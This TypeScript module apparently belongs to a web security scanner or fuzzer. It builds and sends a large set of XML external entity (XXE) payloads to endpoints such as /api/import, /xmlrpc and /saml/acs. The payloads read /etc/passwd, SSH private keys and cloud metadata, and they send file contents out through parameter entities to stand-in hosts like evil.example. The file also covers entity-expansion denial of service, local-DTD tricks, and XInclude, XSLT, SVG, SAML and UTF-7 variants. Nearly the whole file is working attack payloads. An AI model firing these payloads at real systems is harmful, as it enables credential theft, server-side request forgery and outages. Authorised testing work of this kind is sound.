import type { WholeWriter } from '../whole.ts';

const paths = ['/api/import', '/xmlrpc', '/ws/orders', '/saml/acs', '/feed/preview', '/soap/v2', '/dav/notes'] as const;
const at = (number: number): string => paths[number % paths.length] ?? '/api/import';

const files = [
  'file:///etc/passwd',
  'file:///c:/windows/win.ini',
  'file:///proc/self/environ',
  'file:///root/.ssh/id_rsa',
  'php://filter/convert.base64-encode/resource=index.php',
  'http://169.254.169.254/latest/meta-data/',
  'http://127.0.0.1:9200/_search',
  'expect://id',
  'netdoc:/etc/hosts',
  'jar:http://198.51.100.7/a.zip!/x',
  'gopher://127.0.0.1:6379/_INFO',
  'file:///etc/hostname',
  'ftp://198.51.100.7:2121/a',
] as const;

/** Entities of XML that reach files, hosts and memory. */
export function writeXml(write: WholeWriter): void {
  const send = (body: string | Buffer, turn: number, type = 'application/xml'): void =>
    write.send(at(turn), type, body);
  write.as({ class: 'xxe', technique: 'general entity in an attribute of a deep element' });
  for (const [turn, url] of files.entries()) {
    send(
      `<?xml version="1.0"?><!DOCTYPE order [<!ELEMENT order ANY><!ENTITY leak SYSTEM "${url}">]><order><line sku="1"><note>&leak;</note></line></order>`,
      turn,
    );
    send(`<!DOCTYPE a PUBLIC "-//B/A/EN" "${url}"><a>1</a>`, turn, 'text/xml');
  }
  write.as({ class: 'xxe', technique: 'parameter entity, outside DTD' });
  for (const [turn, host] of [
    '198.51.100.7',
    'x.oast.example',
    '203.0.113.9:8000',
    '[2001:db8::9]',
    'evil.example',
  ].entries()) {
    send(
      `<?xml version="1.0" encoding="utf-8"?>\n<!DOCTYPE r [<!ENTITY % sp SYSTEM "http://${host}/ev.dtd"> %sp; %param1;]>\n<r>&exfil;</r>`,
      turn,
    );
    send(`<!DOCTYPE r SYSTEM 'https://${host}/r.dtd'><r/>`, turn + 1, 'application/soap+xml');
    send(
      `<!DOCTYPE m [<!ENTITY % f SYSTEM "file:///etc/hostname"><!ENTITY % w "<!ENTITY &#37; s SYSTEM 'http://${host}/?%f;'>">%w;%s;]><m>1</m>`,
      turn + 2,
    );
    send(
      `<?xml version="1.0"?><!DOCTYPE x [<!ENTITY % a "<!ENTITY &#x25; b SYSTEM 'ftp://${host}/q'>"> %a; %b;]><x/>`,
      turn + 3,
    );
  }
  write.as({ class: 'xxe', technique: 'DTD of the system, redefined' });
  for (const [turn, dtd] of [
    '/usr/share/yelp/dtd/docbookx.dtd',
    '/usr/share/xml/fontconfig/fonts.dtd',
    '/usr/share/struts/struts-config_1_0.dtd',
    'C:/Windows/System32/wbem/xml/cim20.dtd',
    '/opt/IBM/WebSphere/AppServer/properties/sip-app_1_0.dtd',
    '/usr/share/nmap/nmap.dtd',
  ].entries())
    send(
      `<!DOCTYPE m [<!ENTITY % local SYSTEM "file://${dtd}"><!ENTITY % expr 'a)><!ENTITY &#x25; f SYSTEM "file:///etc/passwd"><!ENTITY &#x25; e "<!ENTITY &#x26;#x25; r SYSTEM &#x27;file:///x/&#x25;f;&#x27;>">&#x25;e;&#x25;r;<!ELEMENT aa (bb'>%local;]><m/>`,
      turn,
    );
  write.as({ class: 'xxe', technique: 'growth' });
  for (let depth = 4; depth < 12; depth++) {
    const rows = Array.from({ length: depth }, (_, row) => `<!ENTITY z${row + 1} "${`&z${row};`.repeat(8)}">`).join('');
    send(`<?xml version="1.0"?><!DOCTYPE z [<!ENTITY z0 "dos">${rows}]><z>&z${depth};</z>`, depth);
  }
  for (const size of [2000, 6000])
    send(`<!DOCTYPE q [<!ENTITY a "${'A'.repeat(size)}">]><q>${'&a;'.repeat(size / 2)}</q>`, size);
  send('<!DOCTYPE a [<!ENTITY % x "&#37;x;">%x;]><a/>', 1);
  send('<!DOCTYPE a [<!ENTITY x "&y;"><!ENTITY y "&x;">]><a>&x;</a>', 2);
  send('<!DOCTYPE r [<!ENTITY d SYSTEM "file:///dev/random">]><r>&d;</r>', 3);
  send('<!DOCTYPE r [<!ENTITY d SYSTEM "file:///dev/zero">]><r>&d;</r>', 4);
  writeOtherShapes(write, send);
}

function writeOtherShapes(
  write: WholeWriter,
  send: (body: string | Buffer, turn: number, type?: string) => void,
): void {
  write.as({ class: 'xxe', technique: 'inclusion and stylesheets' });
  for (const [turn, url] of files.slice(0, 7).entries()) {
    send(`<root xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include parse="text" href="${url}"/></root>`, turn);
    send(`<?xml-stylesheet type="text/xsl" href="${url}"?><a/>`, turn + 1);
    send(
      `<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:template match="/"><xsl:copy-of select="document('${url}')"/></xsl:template></xsl:stylesheet>`,
      turn + 2,
    );
    send(`<x xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:noNamespaceSchemaLocation="${url}"/>`, turn + 3);
    write.send(
      '/search',
      'application/x-www-form-urlencoded',
      new URLSearchParams({
        doc: `<a xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="${url}" parse="text"/></a>`,
      }).toString(),
    );
  }
  write.as({ class: 'xxe', technique: 'pictures and feeds' });
  for (const [turn, url] of files.slice(0, 9).entries()) {
    const dtd = `<!DOCTYPE d [<!ENTITY v SYSTEM "${url}">]>`;
    send(
      `<?xml version="1.0" standalone="yes"?>${dtd}<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9"><text y="9">&v;</text></svg>`,
      turn,
      'image/svg+xml',
    );
    send(
      `<?xml version="1.0"?>${dtd}<rss version="2.0"><channel><title>&v;</title><item><link>https://news.example</link></item></channel></rss>`,
      turn,
      'application/rss+xml',
    );
    send(
      `<?xml version="1.0"?>${dtd}<methodCall><methodName>system.listMethods</methodName><params><param><value>&v;</value></param></params></methodCall>`,
      turn,
      'text/xml',
    );
    send(
      `${dtd}<samlp:AuthnRequest xmlns:samlp="urn:oasis:names:tc:SAML:2.0:protocol" ID="_1"><saml:Issuer xmlns:saml="urn:oasis:names:tc:SAML:2.0:assertion">&v;</saml:Issuer></samlp:AuthnRequest>`,
      turn + 3,
      'text/xml',
    );
    write.send(
      '/saml/acs',
      'application/x-www-form-urlencoded',
      `RelayState=a&SAMLResponse=${encodeURIComponent(Buffer.from(`<?xml version="1.0"?>${dtd}<samlp:Response xmlns:samlp="urn:oasis:names:tc:SAML:2.0:protocol">&v;</samlp:Response>`).toString('base64'))}`,
    );
  }
  write.as({ class: 'xxe', technique: 'other alphabets of the transport' });
  for (const [turn, url] of files.slice(0, 6).entries()) {
    const text = `<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE d [<!ENTITY v SYSTEM "${url}">]><d>&v;</d>`;
    send(Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(text, 'utf16le')]), turn);
    send(Buffer.concat([Buffer.from([0xfe, 0xff]), Buffer.from(text, 'utf16le').swap16()]), turn, 'text/xml');
    send(
      text
        .replace('UTF-16', 'UTF-7')
        .replaceAll('<', '+ADw-')
        .replaceAll('>', '+AD4-')
        .replaceAll('"', '+ACI-')
        .replaceAll('!', '+ACE-'),
      turn,
    );
    // JSON endpoints of some frameworks read XML when asked to.
    write.send(
      '/api/v2/login',
      'application/xml',
      `<!DOCTYPE l [<!ENTITY v SYSTEM "${url}">]><login><user>&v;</user><pass>x</pass></login>`,
    );
  }
}
